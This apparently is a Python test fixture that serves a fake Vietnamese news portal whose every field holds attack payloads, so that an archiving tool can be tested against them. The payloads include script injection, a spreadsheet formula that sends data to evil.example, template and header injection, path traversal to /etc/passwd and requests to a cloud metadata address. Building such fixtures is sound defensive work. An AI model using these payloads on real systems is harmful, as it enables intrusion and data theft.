"""A portal that attacks whoever reads its archive: scripts, formulas, paths and addresses in every field that is shown."""

from tests.operations.serving import Sent, home, ok

SCRIPT = "<script>document.title='owned'</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
PARAGRAPH = (
    "Ủy ban nhân dân tỉnh vừa ban hành kế hoạch phát triển cây dược liệu giai đoạn mới, trong đó giao các huyện rà soát diện "
    "tích đất rừng, lựa chọn giống cây phù hợp và vận động người dân tham gia hợp tác xã độc hại."
)
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>document.title="owned"</script></svg>'
TITLES = {
    "script": f"Độc hại {SCRIPT}",
    "formula": f"{FORMULA} độc hại",
    "attribute": "Độc hại \"><img src=x onerror=alert(1)> ' onmouseover='alert(1)",
    "template": "Độc hại {{ 7*7 }} ${7*7} {% raw %} \\ %0d%0aSet-Cookie: a=b",
    "bibtex": "Độc hại } \\input{/etc/passwd} @online{x,",
    "plain": "Độc hại kế hoạch dược liệu có sửa đổi",
}


def escaped(text: str) -> str:
    """The text as a page shows it: what is stored is the text itself."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def page(name: str, visit: int = 1) -> str:
    """An article whose every field attacks; at its second visit the plain one says something else."""
    title = escaped(TITLES[name])
    more = "Sửa lần hai: thêm một ngàn héc-ta mới." if visit > 1 and name == "plain" else ""
    texts = "".join(f"<p>{n}. {PARAGRAPH} {title} {more}</p>" for n in range(1, 5))
    return f"""<!DOCTYPE html><html lang="vi"><head><title>{title}</title><base href="/">
<meta property="og:type" content="article"><meta property="article:published_time" content="2026-01-05T08:00:00+07:00">
<meta name="author" content="{title}"><meta http-equiv="refresh" content="0;url=http://evil.example/">
<link rel="stylesheet" href="/style.css"><style>h1{{color:#123456}}body{{background:url(http://evil.example/a.png)}}</style>
<script>document.title='owned'</script></head>
<body onload="document.title='owned'"><article><h1>{title}</h1>{texts}
<figure><img src="/anh.svg" alt="{title}" onerror="document.title='owned'"><figcaption>Chú thích độc hại {title}</figcaption></figure>
<figure><img src="http://169.254.169.254/latest/meta-data/" alt=""><figcaption>Ảnh máy chủ nội bộ độc hại</figcaption></figure>
<p><a href="/tai/..%2F..%2F..%2Fetc%2Fpasswd.pdf">../../etc/passwd {title}.pdf</a></p>
<p><a href="javascript:document.title='owned'">bấm vào đây</a></p>
<iframe src="http://169.254.169.254/"></iframe><form action="http://evil.example/"><input name="a"></form>
</article></body></html>"""


def answers(visit: int = 1) -> dict[str, Sent]:
    """All that the portal answers at a visit, by path."""
    told: dict[str, Sent] = {"/": ok(home(*(f"/tin-tuc/{name}-10{n}.html" for n, name in enumerate(TITLES))))}
    told |= {f"/tin-tuc/{name}-10{n}.html": ok(page(name, visit)) for n, name in enumerate(TITLES)}
    told["/robots.txt"] = ok("User-agent: *\nDisallow:\n", kind="text/plain")
    told["/anh.svg"] = ok(SVG, kind="image/svg+xml")
    told["/style.css"] = ok("h1{color:#123456}@import 'http://evil.example/b.css';", kind="text/css")
    told["/tai/..%2F..%2F..%2Fetc%2Fpasswd.pdf"] = ok("%PDF-1.4 <script>alert(1)</script>", kind="application/pdf")
    return told
